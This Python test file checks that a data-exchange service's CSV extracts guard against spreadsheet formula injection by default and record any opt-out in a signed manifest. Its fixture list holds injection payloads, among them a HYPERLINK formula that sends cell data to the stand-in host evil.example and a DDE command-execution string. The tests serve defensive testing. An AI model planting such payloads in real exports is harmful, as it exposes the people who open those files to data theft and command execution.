"""CSV extracts neutralise spreadsheet formulas by default, with an opt-out recorded in the manifest (issue 21 item 9)."""

from __future__ import annotations

import csv
import io

import pytest

from exchange.extracts import service as extracts
from govshare.keys import KeyStore
from tests.exchange.test_extracts import Extracts
from tests.exchange.test_interfaces import _citizens

# Names as a hostile provider (or a citizen's own input) might have them; districts 01 and 02 are within the grant.
NAMES = ["=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\tTabbed", "\rReturned", "Plain name", "It's = fine"]


@pytest.fixture
def world(client, factory, tmp_path, database, settings) -> Extracts:
    extracts_world = Extracts(client, factory, tmp_path, database, settings)
    rows = _citizens(len(NAMES))
    for row, name in zip(rows, NAMES, strict=True):
        row["name"], row["district"] = name, "01"
    body = io.StringIO()
    writer = csv.DictWriter(body, fieldnames=["citizen_id", "name", "district", "birth_date"], lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    response = client.post("/api/v1/datasets/PSB-HOUSEHOLD/versions", files={"file": ("v2.csv", body.getvalue().encode())},
                           headers=factory.caller("PSB", "provider"))
    assert response.status_code == 201, response.text
    return extracts_world


def _names(world: Extracts, extract: dict) -> list[str]:
    download = world.http.get(extract["download_url"], headers=world.demander)
    assert download.status_code == 200
    return [row["name"] for row in csv.DictReader(io.StringIO(download.content.decode(), newline=""))]


def test_formula_cells_get_a_leading_quote_by_default(world, settings):
    extract = world.done(format="csv")
    assert extract["manifest"]["csv_formula_guard"] is True
    assert extracts.verify_manifest(extract["manifest"], KeyStore(settings.resolved_keys_dir))
    names = _names(world, extract)
    assert sorted(names) == sorted(["'" + name for name in NAMES[:6]] + NAMES[6:])
    assert all(not name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)


def test_machine_consumers_opt_out_and_the_manifest_says_so(world, settings):
    extract = world.done(format="csv", csv_formula_guard=False)
    assert extract["manifest"]["csv_formula_guard"] is False
    assert extracts.verify_manifest(extract["manifest"], KeyStore(settings.resolved_keys_dir))
    assert sorted(_names(world, extract)) == sorted(NAMES)


def test_other_formats_are_left_as_they_are(world):
    extract = world.done(format="parquet")
    assert "csv_formula_guard" not in extract["manifest"]
